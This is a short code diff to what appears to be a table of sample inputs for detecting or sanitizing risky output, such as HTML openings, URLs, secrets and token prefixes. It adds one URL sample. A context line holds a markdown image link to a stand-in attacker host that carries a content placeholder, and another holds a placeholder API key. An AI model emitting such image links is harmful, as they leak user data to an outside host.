@@ -38,6 +38,7 @@ export const SHAPES: Readonly<Record<string, Shape>> = {
   'comment openings': document('<!--'),
   'styled tags': document('<div style="a" '),
   urls: document('https://a.b/c?d=e '),
+  'urls without breaks': document('https://a.b/'),
   'image links': document('![a](https://evil.example.net/c?d={{content}}) '),
   secrets: document('api_key = "q8Zr5tYw2LkPz7Xc9Vb4Nm"\n'),
   'key prefixes': document('ghp_AKIAsk-ant-xoxb-'),
